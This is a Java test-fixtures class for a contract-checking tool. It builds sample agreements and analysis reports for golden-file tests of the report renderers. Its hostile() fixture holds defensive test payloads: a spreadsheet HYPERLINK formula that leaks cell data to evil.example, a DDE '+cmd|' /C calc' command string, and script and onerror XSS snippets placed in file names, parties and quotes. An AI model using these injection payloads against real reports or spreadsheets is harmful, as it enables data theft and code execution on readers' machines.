package org.clausecheck.analyze.report;

import java.util.List;
import java.util.Map;
import org.clausecheck.analyze.AnalysisReport;
import org.clausecheck.analyze.doctype.DocumentProfile;
import org.clausecheck.analyze.doctype.IncorporatedTerms;
import org.clausecheck.analyze.doctype.TemplateSummary;
import org.clausecheck.analyze.finding.DocumentSummary;
import org.clausecheck.analyze.finding.Evidence;
import org.clausecheck.analyze.finding.EvidenceKind;
import org.clausecheck.analyze.finding.Finding;
import org.clausecheck.analyze.finding.RelatedPassage;
import org.clausecheck.analyze.finding.RiskLevel;
import org.clausecheck.analyze.finding.Status;
import org.clausecheck.analyze.parties.Party;
import org.clausecheck.analyze.parties.PartyResolution;
import org.clausecheck.analyze.parties.Role;
import org.clausecheck.analyze.playbook.Playbook;
import org.clausecheck.analyze.playbook.Rule;
import org.clausecheck.analyze.playbook.Severity;
import org.clausecheck.extract.DocumentFormat;
import org.clausecheck.extract.ExtractionWarning;

/**
 * Reports built by hand from records, so that golden files change only when a renderer does: neither the
 * default playbook nor the analyzer's judgement can move them. Offsets are computed from the fixed texts.
 */
final class ReportFixtures {

    static final Playbook PLAYBOOK = new Playbook("1.0.0", "test playbook", "", Map.of(), List.of(), List.of(
            rule("ip-ownership", "The customer owns the work product", Severity.REQUIRED,
                    "Without an assignment the vendor keeps the code, prompts and models.",
                    "Supplier hereby assigns to Client all right, title and interest in the Deliverables."),
            rule("documentation", "The vendor documents what it builds", Severity.REQUIRED,
                    "Undocumented pipelines lock the customer in.",
                    "Supplier shall document all prompts, pipelines and deployment processes from the start."),
            rule("environment-access", "The customer has access to the environments", Severity.REQUIRED,
                    "Deliverables without the environments cannot be run.",
                    "Client shall have administrative access to all environments at all times."),
            rule("knowledge-transfer", "Knowledge transfer before the engagement ends", Severity.REQUIRED,
                    "Someone must be able to take over.",
                    "Before the end of the engagement Supplier shall train Client's staff to take over."),
            rule("no-training", "No training on the customer's data", Severity.RECOMMENDED,
                    "Customer data must not improve the vendor's models.",
                    "Supplier shall not use Client Data to train or improve any model."),
            rule("confidentiality", "Confidentiality of the customer's information", Severity.RECOMMENDED,
                    "Prompts and business data are confidential.",
                    "Supplier shall keep Client's data, prompts and business information confidential.")));

    static final String AGREEMENT_TEXT = """
            SOFTWARE DEVELOPMENT AGREEMENT

            This Agreement is made between Northwind Logistics, Inc. ("Customer") and Brightline Data Labs \
            S.R.L. ("Vendor").

            3. INTELLECTUAL PROPERTY

            3.1 Vendor retains all right, title and interest in the Deliverables and grants Customer a \
            non-exclusive licence to use them.

            3.2 Vendor hereby assigns to Customer all rights in the custom reports if Customer so requests.

            4. DOCUMENTATION

            4.1 Vendor shall provide user manuals for the Deliverables and, if agreed in writing by the parties \
            in a separate statement of work and subject to payment of the additional fees set out in that \
            statement of work, such further technical documentation of the architecture, the data pipelines, \
            the prompts and the deployment processes as Vendor considers reasonably necessary for the operation \
            of the Deliverables by Customer.

            5. ACCESS

            5.1 Customer shall have administrative access at all times to all source code repositories, \
            cloud accounts and environments used for the Services, including staging and production, and \
            Vendor shall hand over all credentials for those environments to Customer within five (5) \
            business days of any request made by Customer during the term of this Agreement or after it.

            6. DATA

            6.1 Vendor may use anonymised Customer Data to improve its services.

            7. TERM

            7.1 For sixty (60) days after expiry Vendor shall continue to answer questions of Customer's \
            successor about the Deliverables.
            """;

    static final String MSA_TEXT = """
            MASTER SERVICES AGREEMENT

            Acme Corp. ("Client") engages Delta Engineering Ltd ("Supplier").

            Confidentiality. Supplier shall keep all Client data, prompts and business information strictly \
            confidential.

            Transition. Supplier shall train Client's staff to take over the system before the end of the \
            engagement.
            """;

    private ReportFixtures() {
    }

    /** No documents, no errors: what a run over an empty folder reports. */
    static CheckReport empty() {
        return new CheckReport(PLAYBOOK, List.of(), List.of());
    }

    /**
     * Two contracts with every status, with and without evidence, with and without pages, with a weakening
     * note, contrary and satisfying evidence together, and an extraction warning.
     */
    static CheckReport everyStatus() {
        return new CheckReport(PLAYBOOK, List.of(agreement(), msa()), List.of());
    }

    /** A contract with no gaps, and two files that could not be read. */
    static CheckReport withErrors() {
        DocumentReport clean = document("contracts/clean.txt", DocumentFormat.TXT, 0, List.of(), MSA_TEXT,
                msaParties(), RiskLevel.LOW, List.of(
                        met("ip-ownership", MSA_TEXT, "engages Delta Engineering Ltd", 0, null, ""),
                        met("confidentiality", MSA_TEXT,
                                "Supplier shall keep all Client data, prompts and business information strictly "
                                        + "confidential.", 0, null, "Confidentiality")));
        return new CheckReport(PLAYBOOK, List.of(clean), List.of(
                new ProcessingError("contracts/scan.pdf", "no text layer: the PDF holds scanned images only"),
                new ProcessingError("contracts/locked.docx", "document is encrypted")));
    }

    private static DocumentReport agreement() {
        String text = AGREEMENT_TEXT;
        Finding ip = new Finding("ip-ownership", Status.CONTRARY, 0.9, List.of(
                "contrary evidence from pattern vendor-retains in section 3.1",
                "weak evidence from pattern present-assignment in section 3.2 (weakened by upon-request)"), List.of(
                evidence(text, EvidenceKind.WEAK, "present-assignment",
                        "Vendor hereby assigns to Customer all rights in the custom reports if Customer so requests.",
                        2, "3.2", "INTELLECTUAL PROPERTY", "weakened by upon-request"),
                evidence(text, EvidenceKind.CONTRARY, "vendor-retains",
                        "Vendor retains all right, title and interest in the Deliverables and grants Customer a "
                                + "non-exclusive licence to use them.", 2, "3.1", "INTELLECTUAL PROPERTY", "")),
                PLAYBOOK.rules().get(0).recommendation());
        Finding documentation = new Finding("documentation", Status.WEAK, 0.456, List.of(
                "weak evidence from pattern user-manuals in section 4.1 (weakened by only-if-agreed)"), List.of(
                evidence(text, EvidenceKind.WEAK, "user-manuals",
                        "Vendor shall provide user manuals for the Deliverables and, if agreed in writing by the parties "
                                + "in a separate statement of work and subject to payment of the additional fees set "
                                + "out in that statement of work, such further technical documentation of the "
                                + "architecture, the data pipelines, the prompts and the deployment processes as "
                                + "Vendor considers reasonably necessary for the operation of the Deliverables by "
                                + "Customer.",
                        2, "4.1", "DOCUMENTATION", "weakened by only-if-agreed")),
                PLAYBOOK.rules().get(1).recommendation());
        Finding access = met("environment-access", text, "Customer shall have administrative access at all times to "
                + "all source code repositories, cloud accounts and environments used for the Services, including "
                + "staging and production, and Vendor shall hand over all credentials for those environments to "
                + "Customer within five (5) business days of any request made by Customer during the term of this "
                + "Agreement or after it.", 3, "5.1", "ACCESS");
        Finding transfer = new Finding("knowledge-transfer", Status.MISSING, 0.7, List.of(), List.of(),
                PLAYBOOK.rules().get(3).recommendation(), List.of(
                related(text, "For sixty (60) days after expiry Vendor shall continue to answer questions of Customer's "
                        + "successor about the Deliverables.", 3, "7.1", "TERM", 0.62,
                        "classifier:post-termination-services"),
                related(text, "Vendor may use anonymised Customer Data to improve its services.", 3, "6.1", "DATA", 0.08,
                        "classifier:post-termination-services")));
        Finding training = new Finding("no-training", Status.CONTRARY, 0.8, List.of(
                "contrary evidence from pattern may-use-for-training in section 6.1"), List.of(
                evidence(text, EvidenceKind.CONTRARY, "may-use-for-training",
                        "Vendor may use anonymised Customer Data to improve its services.", 3, "6.1", "DATA", "")),
                PLAYBOOK.rules().get(4).recommendation());
        Finding confidentiality = new Finding("confidentiality", Status.MISSING, 0.7,
                List.of("1 match ignored as negated"), List.of(), PLAYBOOK.rules().get(5).recommendation());
        PartyResolution parties = new PartyResolution(List.of(
                new Party("Northwind Logistics, Inc.", List.of("Customer"), Role.CUSTOMER),
                new Party("Brightline Data Labs S.R.L.", List.of("Vendor"), Role.VENDOR)), true, 0.95,
                "the preamble names Northwind Logistics, Inc. \"Customer\" and Brightline Data Labs S.R.L. \"Vendor\"");
        return document("contracts/northwind agreement.pdf", DocumentFormat.PDF, 3,
                List.of(ExtractionWarning.forPage(4, "no text layer; the page was skipped")), text, parties,
                RiskLevel.HIGH, List.of(ip, documentation, access, transfer, training, confidentiality));
    }

    private static DocumentReport msa() {
        String text = MSA_TEXT;
        Finding transfer = new Finding("knowledge-transfer", Status.MET, 0.77, List.of(
                "satisfying evidence from pattern train-to-take-over under heading Transition"), List.of(
                evidence(text, EvidenceKind.SATISFYING, "train-to-take-over", "Supplier shall train Client's staff to "
                        + "take over the system before the end of the engagement.", 0, null, "Transition", "")), "");
        Finding training = new Finding("no-training", Status.WEAK, 0.5, List.of(
                "weak evidence from pattern purpose-limitation"), List.of(
                evidence(text, EvidenceKind.WEAK, "purpose-limitation", "Supplier shall keep all Client data, prompts "
                        + "and business information strictly confidential.", 0, null, "", "")),
                PLAYBOOK.rules().get(4).recommendation());
        DocumentProfile profile = new DocumentProfile("sow", "statement of work",
                "title \u201CStatement of Work No. 2\u201D; calls itself \u201Cthis SOW\u201D 4 times",
                List.of("no-training", "confidentiality"), List.of(
                        new IncorporatedTerms("the Master Services Agreement dated 1 March 2024", "1", 0, true),
                        new IncorporatedTerms("the Data Processing Addendum", null, 40, false)),
                new TemplateSummary(1, 2, 3, 1, 0));
        return document("contracts/acme-msa.docx", DocumentFormat.DOCX, 0, List.of(), text, msaParties(),
                RiskLevel.HIGH, profile, List.of(
                        new Finding("ip-ownership", Status.MISSING, 0.7, List.of(), List.of(),
                                PLAYBOOK.rules().get(0).recommendation()),
                        new Finding("documentation", Status.MISSING, 0.7, List.of(), List.of(),
                                PLAYBOOK.rules().get(1).recommendation()),
                        new Finding("environment-access", Status.MISSING, 0.7, List.of(), List.of(),
                                PLAYBOOK.rules().get(2).recommendation()),
                        transfer, training,
                        met("confidentiality", text, "Supplier shall keep all Client data, prompts and business "
                                + "information strictly confidential.", 0, null, "Confidentiality")));
    }

    /**
     * A contract written to attack the reader of a report: markup, spreadsheet formulas and Markdown in
     * its file name, parties, headings, quotes and reasons.
     */
    static CheckReport hostile() {
        String quote = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\") <script>alert(1)</script> "
                + "| *bold* [link](http://evil.example) <img src=x onerror=alert(2)> & 'quoted'";
        String text = "Preamble.\n\n1. <b>Heading</b>\n\n" + quote + "\n\n+cmd|' /C calc'!A0\n\n@SUM(1+1)\n";
        Finding ip = new Finding("ip-ownership", Status.CONTRARY, 0.9, List.of("<script>alert(3)</script> | reason"),
                List.of(evidence(text, EvidenceKind.CONTRARY, "vendor-retains", quote, 1, "1",
                        "<b>Heading</b>", "")), "=1+1 ask for <em>this</em>");
        Finding documentation = new Finding("documentation", Status.WEAK, 0.5, List.of("-2+3"),
                List.of(evidence(text, EvidenceKind.WEAK, "formula", "+cmd|' /C calc'!A0", 1, "-1", "@heading", "")),
                "@SUM(1+1)");
        PartyResolution parties = new PartyResolution(List.of(
                new Party("<script>alert(4)</script> Corp", List.of("=Client"), Role.CUSTOMER),
                new Party("Evil & Sons \"Ltd\"", List.of(), Role.VENDOR)), true, 0.6, "@because <i>reasons</i>");
        Finding transfer = new Finding("knowledge-transfer", Status.MISSING, 0.7, List.of(), List.of(), "=2+2",
                List.of(related(text, quote, 1, "1", "<b>Heading</b>", 0.5, "similarity")));
        DocumentProfile profile = new DocumentProfile("other", "<i>agreement</i>", "@title =1+1 <script>alert(7)</script>",
                List.of(), List.of(new IncorporatedTerms("=HYPERLINK(\"http://evil.example\") <b>Terms</b> | *x*", null, 0,
                        true)), new TemplateSummary(0, 0, 1, 0, 0));
        DocumentReport document = document("contracts/<script>alert(5)</script>.pdf", DocumentFormat.PDF, 1,
                List.of(), text, parties, RiskLevel.HIGH, profile, List.of(ip, documentation, transfer));
        return new CheckReport(PLAYBOOK, List.of(document), List.of(
                new ProcessingError("=cmd|' /C calc'!A0.docx", "-<script>alert(6)</script>")));
    }

    private static PartyResolution msaParties() {
        return new PartyResolution(List.of(
                new Party("Acme Corp.", List.of("Client"), Role.CUSTOMER),
                new Party("Delta Engineering Ltd", List.of("Supplier"), Role.VENDOR)), true, 0.875,
                "Delta Engineering Ltd performs the services; Acme Corp. pays for them");
    }

    private static Finding met(String ruleId, String text, String quote, int page, String section, String heading) {
        return new Finding(ruleId, Status.MET, 0.85, List.of("satisfying evidence from pattern test"),
                List.of(evidence(text, EvidenceKind.SATISFYING, "test", quote, page, section, heading, "")), "");
    }

    private static Evidence evidence(String text, EvidenceKind kind, String pattern, String quote, int page,
                                     String section, String heading, String note) {
        int start = text.indexOf(quote);
        if (start < 0) {
            throw new IllegalArgumentException("not in the fixture text: " + quote);
        }
        return new Evidence(kind, pattern, quote, page, section, heading, start, start + quote.length(), note);
    }

    private static RelatedPassage related(String text, String quote, int page, String section, String heading,
                                          double score, String basis) {
        int start = text.indexOf(quote);
        if (start < 0) {
            throw new IllegalArgumentException("not in the fixture text: " + quote);
        }
        return new RelatedPassage(quote, page, section, heading, start, start + quote.length(), score, basis);
    }

    private static DocumentReport document(String file, DocumentFormat format, int pages,
                                           List<ExtractionWarning> warnings, String text, PartyResolution parties,
                                           RiskLevel risk, List<Finding> findings) {
        return document(file, format, pages, warnings, text, parties, risk, DocumentProfile.UNKNOWN, findings);
    }

    private static DocumentReport document(String file, DocumentFormat format, int pages,
                                           List<ExtractionWarning> warnings, String text, PartyResolution parties,
                                           RiskLevel risk, DocumentProfile profile, List<Finding> findings) {
        int met = (int) findings.stream().filter(f -> f.status() == Status.MET).count();
        List<String> requiredNotMet = findings.stream()
                .filter(f -> f.status() != Status.MET)
                .filter(f -> profile.expects(f.ruleId()))
                .filter(f -> PLAYBOOK.rule(f.ruleId()).orElseThrow().severity() == Severity.REQUIRED)
                .map(Finding::ruleId)
                .toList();
        DocumentSummary summary = new DocumentSummary(parties, met, findings.size(), requiredNotMet, risk);
        String sha = sha(file);
        return new DocumentReport(file, sha, format, pages, warnings, text,
                new AnalysisReport(sha, file, PLAYBOOK.version(), summary, List.of(), findings, profile));
    }

    /** A fixed, file-specific stand-in for the SHA-256 of the file's bytes. */
    private static String sha(String file) {
        return String.format("%064x", Math.abs((long) file.hashCode()));
    }

    private static Rule rule(String id, String title, Severity severity, String rationale, String recommendation) {
        return new Rule(id, title, id.equals("no-training") || id.equals("confidentiality") ? "data-security" : "core",
                severity, rationale, List.of(), List.of(), List.of(), List.of(), List.of(), recommendation, List.of(),
                null);
    }
}
